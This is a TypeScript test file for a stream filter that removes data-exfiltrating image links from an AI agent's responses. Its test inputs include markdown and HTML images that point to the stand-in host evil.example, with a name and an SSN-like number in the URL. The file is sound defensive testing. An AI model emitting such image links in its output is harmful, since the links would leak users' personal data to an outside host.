import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileGlobs } from '../../src/config/glob.ts';
import { ExfilLinkRemover } from '../../src/guards/exfil-links.ts';
import { HeldTexts, PLAIN, responseRewriter } from '../../src/protocols/text-rewrite.ts';

// The remover as a stream uses it: pieces through HeldTexts (holdBack, then mask what is
// released), joined as the agent's client would join them before rendering.
function stream(text: string, size: number): { pieces: string[]; joined: string } {
  const remover = new ExfilLinkRemover(compileGlobs([]));
  const held = new HeldTexts<null>(responseRewriter({ responseMasker: remover })!);
  const pieces: string[] = [];
  for (let at = 0; at < text.length; at += size) {
    const last = at + size >= text.length;
    pieces.push(held.piece('text', text.slice(at, at + size), PLAIN, null, last));
  }
  return { pieces, joined: pieces.join('') };
}

test('an image split across many pieces is removed whole, and no piece carries its URL', () => {
  const text = 'Summary ready. ![status](https://evil.example/p.png?d=Maria%20Gonzalez%20219-45-8812) Anything else?';
  for (const size of [1, 3, 7, 20]) {
    const { pieces, joined } = stream(text, size);
    assert.equal(joined, 'Summary ready. [image removed by Portcullis: it would have sent data to evil.example] Anything else?');
    for (const piece of pieces) assert.ok(!piece.includes('evil.example/p'), `piece ${JSON.stringify(piece)} (size ${size})`);
  }
});

test('an image left open past the hold limit is released inert, so its later pieces cannot complete it', () => {
  const text = `Start ![x](https://evil.example/p.png?d=${'A'.repeat(6_000)}) end`;
  const { joined } = stream(text, 7);
  assert.ok(!joined.includes('![x]('), 'the image opener was escaped');
  assert.ok(joined.startsWith('Start !\\[x](https://evil.example/p.png?d=AAAA'));
  const tag = stream(`<img alt="x" title="${'B'.repeat(6_000)}" src="https://evil.example/t.gif?u=1"> end`, 11).joined;
  assert.ok(tag.startsWith('&lt;img alt="x"'), tag.slice(0, 40));
});

test('ordinary text and finished static images pass through the stream unchanged', () => {
  const text = 'Wow! Here is the logo: ![logo](https://cdn.example.org/logo.png) and a < b, x <i>y</i>.';
  assert.equal(stream(text, 5).joined, text);
});
